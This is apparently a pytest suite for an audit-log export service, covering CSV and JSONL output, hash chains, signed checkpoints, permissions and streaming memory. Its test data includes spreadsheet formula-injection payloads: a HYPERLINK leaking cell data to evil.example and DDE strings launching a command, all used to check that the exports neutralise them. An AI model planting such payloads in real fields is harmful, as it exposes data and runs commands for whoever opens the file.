"""Exports of the audit trail: CSV and JSON Lines, filtered, audited, signed, streamed."""

import base64
import csv
import io
import itertools
import json
import uuid
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.serialization import load_pem_public_key
from django.core.management import call_command
from django.test import Client

from audit import chain
from audit import export as export_module
from audit.canonical import canonical
from audit.models import AuditRecord, record_hash
from tests.conftest import Server, issue_token, start_gateway, stop
from tests.test_audit_browser import (
    call_records,
    logged_in,
    private_checkpoints,  # noqa: F401 (an autouse fixture)
    user_in,
)

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = {"seq", "user_id", "result_size", "latency_ms", "approval_id"}
JSON_VALUES = {"arguments", "result", "masking", "details"}

# Caller-controlled values that a spreadsheet would run as formulas.
RISKY = {
    "username": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "run_label": "+1+cmd|' /C calc'!A0",
    "target": "-2+3",
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "subject": "\t=1+1",
    "client_address": "\r=1",
    "request_id": 'quoted "id", with comma\nand a newline, ünïcödé',
}


@pytest.fixture
def bob(transactional_db: None) -> Any:
    return user_in("approver", "bob")


@pytest.fixture
def dave(transactional_db: None) -> Any:
    return user_in("auditor", "dave")


def export(client: Client, url: str, **headers: str) -> tuple[Any, str]:
    response = client.get(url, **headers)
    assert response.status_code == 200, response.content
    return response, b"".join(response.streaming_content).decode()


def exported_value(record: AuditRecord, name: str) -> Any:
    """A record's value as the export promises it: the form its hash is computed over."""
    return record.field_values()[name] if name != "hash" else record.hash


def test_csv_export_with_an_api_token_parses_back_to_the_stored_values(dave):
    token = issue_token("dave", "--scope", "api", "--run", "quarterly-review")
    chain.append_many(call_records(arguments={"q": "=1+1", "n": -3}, result=["@x"], **RISKY))
    chain.append_many(call_records(target="search", outcome="error"))
    chain.append(kind="event", event="connection.saved", details={"slug": "crm"})

    response, body = export(Client(), "/api/audit/export.csv", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    stored = {r.seq: r for r in AuditRecord.objects.exclude(event="audit.export")}
    assert [int(row["seq"]) for row in rows] == sorted(stored)

    neutralised = 0
    for row in rows:
        record = stored[int(row["seq"])]
        for name, cell in row.items():
            value = exported_value(record, name)
            if value is None:
                assert cell == "", name
            elif name == "created_at":
                assert datetime.fromisoformat(cell) == value
            elif name == "call_id":
                assert uuid.UUID(cell) == value
            elif name in NUMBERS:
                assert type(value)(cell) == value, name
            elif name in JSON_VALUES:
                text = cell[1:] if cell.startswith("'") else cell
                assert json.loads(text) == value, name
            else:
                if str(value).startswith(FORMULA_TRIGGERS):
                    assert cell == "'" + str(value), name
                    neutralised += 1
                else:
                    assert cell == str(value), name
    # The six risky caller fields, on both records of the call.
    assert neutralised == 12
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def test_jsonl_export_over_a_session_verifies_against_its_signed_checkpoint(alice):
    client = logged_in(alice)
    for i in range(5):
        chain.append_many(call_records(arguments={"i": i}))
    call_command("audit_checkpoint", stdout=io.StringIO())
    checkpointed = AuditRecord.objects.latest("seq")
    chain.append_many(call_records(target="after_the_checkpoint"))

    response, body = export(client, "/api/audit/export.jsonl")
    assert response["Content-Type"] == "application/x-ndjson"
    *lines, trailer = [json.loads(line) for line in body.splitlines()]
    exported = AuditRecord.objects.get(event="audit.export")
    assert [line["seq"] for line in lines] == list(range(1, exported.seq))
    for previous, line in itertools.pairwise(lines):
        assert line["prev_hash"] == previous["hash"]
    for line in lines:
        assert record_hash(line) == line["hash"]
        record = AuditRecord.objects.get(seq=line["seq"])
        assert datetime.fromisoformat(line.pop("created_at")) == record.created_at
        call_id = line.pop("call_id")
        assert (uuid.UUID(call_id) if call_id else None) == record.call_id
        stored = record.field_values()
        assert line == {name: stored[name] for name in line if name != "hash"} | {
            "hash": record.hash
        }

    checkpoint = trailer["checkpoint"]
    assert checkpoint["seq"] == checkpointed.seq
    assert checkpoint["head_hash"] == checkpointed.hash == lines[checkpointed.seq - 1]["hash"]
    signed = {k: v for k, v in checkpoint.items() if k != "signature"}
    public_key = load_pem_public_key(trailer["public_key"].encode())
    public_key.verify(base64.b64decode(checkpoint["signature"]), canonical(signed))  # type: ignore[union-attr]
    assert json.loads(response["X-Audit-Checkpoint"]) == checkpoint


def test_export_without_a_checkpoint_says_so(alice):
    chain.append_many(call_records())
    response, body = export(logged_in(alice), "/api/audit/export.jsonl")
    assert json.loads(body.splitlines()[-1]) == {"checkpoint": None, "public_key": None}
    assert response["X-Audit-Checkpoint"] == "null"
    response, _ = export(logged_in(alice), "/api/audit/export.csv")
    assert response["X-Audit-Checkpoint"] == "null"


def test_the_export_is_itself_audited_and_ends_before_its_own_event(dave):
    token = issue_token("dave", "--scope", "api", "--run", "quarterly-review")
    chain.append_many(call_records())
    _, body = export(
        Client(),
        "/api/audit/export.jsonl?connection=crm&tool=ad&limit=5",
        HTTP_AUTHORIZATION=f"Bearer {token}",
        HTTP_USER_AGENT="audit-script/1.0",
    )
    event = AuditRecord.objects.get(event="audit.export")
    assert event.kind == "event"
    assert (event.username, event.user_id, event.run_label) == ("dave", dave.pk, "quarterly-review")
    assert event.token == f"mgw_{token.split('_')[1]}…"
    assert event.user_agent == "audit-script/1.0"
    assert event.details == {
        "format": "jsonl",
        "filters": {"connection": "crm", "tool": "ad"},
        "checkpoint_seq": None,
    }
    assert event.seq not in [json.loads(line).get("seq") for line in body.splitlines()]

    _, body = export(logged_in(dave), "/api/audit/export.csv?kind=event")
    exports = [r for r in csv.DictReader(io.StringIO(body)) if r["event"] == "audit.export"]
    assert [int(r["seq"]) for r in exports] == [event.seq]
    assert AuditRecord.objects.filter(event="audit.export").count() == 2


def test_exports_select_what_the_list_selects(alice, monkeypatch):
    # Small chunks and windows, so that full, partial and empty windows all occur.
    monkeypatch.setattr(export_module, "CHUNK_SIZE", 3)
    monkeypatch.setattr(export_module, "MAX_WINDOW", 12)
    client = logged_in(alice)
    for outcome in ("ok", "error", "ok", "denied", "error"):
        chain.append_many(call_records(outcome=outcome, target=f"tool_{uuid.uuid4().hex[:4]}"))
        chain.append_many(call_records(connection="erp", outcome=outcome))
    queries = ("", "connection=crm&outcome=error", "connection=erp&kind=call.request", "before=9")

    def listed(query: str) -> list[int]:
        results = client.get(f"/api/audit/?{query}&limit=500").json()["results"]
        return sorted(r["seq"] for r in results)

    for query in queries:
        # Each export also appends its own event, which a later unfiltered listing shows.
        expected = listed(query)
        _, body = export(client, f"/api/audit/export.csv?{query}")
        assert [int(r["seq"]) for r in csv.DictReader(io.StringIO(body))] == expected
        expected = listed(query)
        _, body = export(client, f"/api/audit/export.jsonl?{query}")
        assert [json.loads(line)["seq"] for line in body.splitlines()[:-1]] == expected
    # The page size does not cut an export short.
    _, body = export(client, "/api/audit/export.csv?connection=crm&limit=1")
    assert len(list(csv.DictReader(io.StringIO(body)))) == 10


def test_outsiders_cannot_export(bob):
    token = issue_token("bob", "--scope", "api")
    mcp_token = issue_token("bob")
    assert Client().get("/api/audit/export.csv").status_code == 401
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    assert Client().get("/api/audit/export.csv", **headers).status_code == 403
    headers = {"HTTP_AUTHORIZATION": f"Bearer {mcp_token}"}
    assert Client().get("/api/audit/export.jsonl", **headers).status_code == 401
    assert logged_in(bob).get("/api/audit/export.jsonl").status_code == 403
    assert not AuditRecord.objects.filter(event="audit.export").exists()


def test_export_answers_in_its_format_whatever_the_client_accepts(alice):
    chain.append_many(call_records())
    response, body = export(logged_in(alice), "/api/audit/export.csv", HTTP_ACCEPT="text/csv")
    assert body.startswith("seq,created_at,kind,")
    response = logged_in(alice).get("/api/audit/export.csv?since=x", HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert "ISO 8601" in response.json()["since"][0]


# Streaming in constant memory, through the real ASGI server.


def add_calls(count: int) -> None:
    """`count` records, appended in batches of 5000."""
    for _ in range(count // 5000):
        rows = [
            row
            for i in range(2500)
            for row in call_records(
                arguments={"a": i, "b": 2, "note": "x" * 40},
                result={"content": [{"type": "text", "text": str(i + 2)}], "isError": False},
            )
        ]
        chain.append_many(rows)


def peak_rss(process_id: int) -> int:
    """The process's peak resident memory so far, in bytes (Linux)."""
    for line in Path(f"/proc/{process_id}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM in /proc status")


def exported_lines(server: Server, token: str, fmt: str) -> tuple[int, bytes]:
    """How many lines the export has, and its last line."""
    lines, tail = 0, b""
    headers = {"Authorization": f"Bearer {token}"}
    url = f"{server.url}/api/audit/export.{fmt}"
    with httpx.stream("GET", url, headers=headers, timeout=120) as response:
        assert response.status_code == 200
        assert "x-audit-checkpoint" in response.headers
        for chunk in response.iter_bytes():
            lines += chunk.count(b"\n")
            tail = (tail + chunk)[-4096:]
    return lines, tail.rstrip(b"\n").rsplit(b"\n", 1)[-1]


def test_export_memory_does_not_grow_with_the_number_of_rows(alice, tmp_path):
    token = issue_token("alice", "--scope", "api")
    server = start_gateway(tmp_path)
    try:
        add_calls(10_000)
        # A header line, then every record before the export's own event.
        before = AuditRecord.objects.count()
        assert exported_lines(server, token, "csv")[0] == 1 + before
        small = peak_rss(server.process.pid)
        add_calls(90_000)
        before = AuditRecord.objects.count()
        assert before > 100_000
        assert exported_lines(server, token, "csv")[0] == 1 + before
        # Every record (now one more export event), then the checkpoint line.
        lines, last = exported_lines(server, token, "jsonl")
        assert lines == before + 1 + 1
        assert "checkpoint" in json.loads(last)
        large = peak_rss(server.process.pid)
    finally:
        stop(server.process)
    assert large - small < 30 * 1024 * 1024, f"peak grew by {(large - small) / 2**20:.1f} MiB"
